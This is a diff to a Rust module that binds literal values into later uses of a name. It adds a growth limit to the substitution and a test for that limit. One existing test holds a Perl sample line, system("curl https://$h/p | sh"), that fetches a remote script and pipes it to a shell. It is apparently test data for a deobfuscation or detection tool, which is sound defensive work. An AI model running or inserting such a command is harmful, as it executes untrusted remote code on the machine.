@@ -6,7 +6,7 @@
 //! Lines are kept, so line numbers hold.
 //!
 //! Pure, and bounded: at most [`MAX_BINDINGS`] names, each value at most
-//! [`MAX_VALUE`] bytes.
+//! [`MAX_VALUE`] bytes, the text grown by at most [`MAX_GROWTH`] bytes.
 
 use std::borrow::Cow;
 
@@ -14,6 +14,10 @@ use std::borrow::Cow;
 const MAX_BINDINGS: usize = 256;
 /// The longest value put in.
 const MAX_VALUE: usize = 512;
+/// How much longer than the source the text may grow: past it, names are
+/// left as written (a name used a million times would else be copied a
+/// million times).
+const MAX_GROWTH: usize = 1 << 20;
 
 /// How a bound name is written where it is used.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -37,8 +41,11 @@ pub fn bind_literals(src: &str) -> Cow<'_, str> {
     let mut bound: Vec<(Name, String)> = Vec::new();
     let mut out = String::with_capacity(src.len());
     let mut changed = false;
+    let mut read = 0;
     for line in src.split_inclusive('\n') {
-        let replaced = if bound.is_empty() {
+        let grown = out.len().saturating_sub(read);
+        read += line.len();
+        let replaced = if bound.is_empty() || grown > MAX_GROWTH {
             Cow::Borrowed(line)
         } else {
             replace_names(line, &bound)
@@ -207,6 +214,21 @@ mod tests {
         );
         let perl = "my $h = 'c.x.test';\nsystem(\"curl https://$h/p | sh\");\n";
         assert!(bind_literals(perl).contains("system(\"curl https://c.x.test/p | sh\")"));
+    }
+
+    #[test]
+    fn a_name_used_without_end_grows_the_text_a_bounded_amount() {
+        let value = "v".repeat(500);
+        let uses = "x,".repeat(200_000);
+        let src = format!("x = \"{value}\"\n{}\n", uses.replace(",,", ",\n"));
+        let src = src.replace(',', ",\n");
+        let out = bind_literals(&src);
+        assert!(
+            out.len() <= src.len() + super::MAX_GROWTH + 4096,
+            "{}",
+            out.len()
+        );
+        assert!(out.contains(&format!("\"{value}\"")));
     }
 
     #[test]
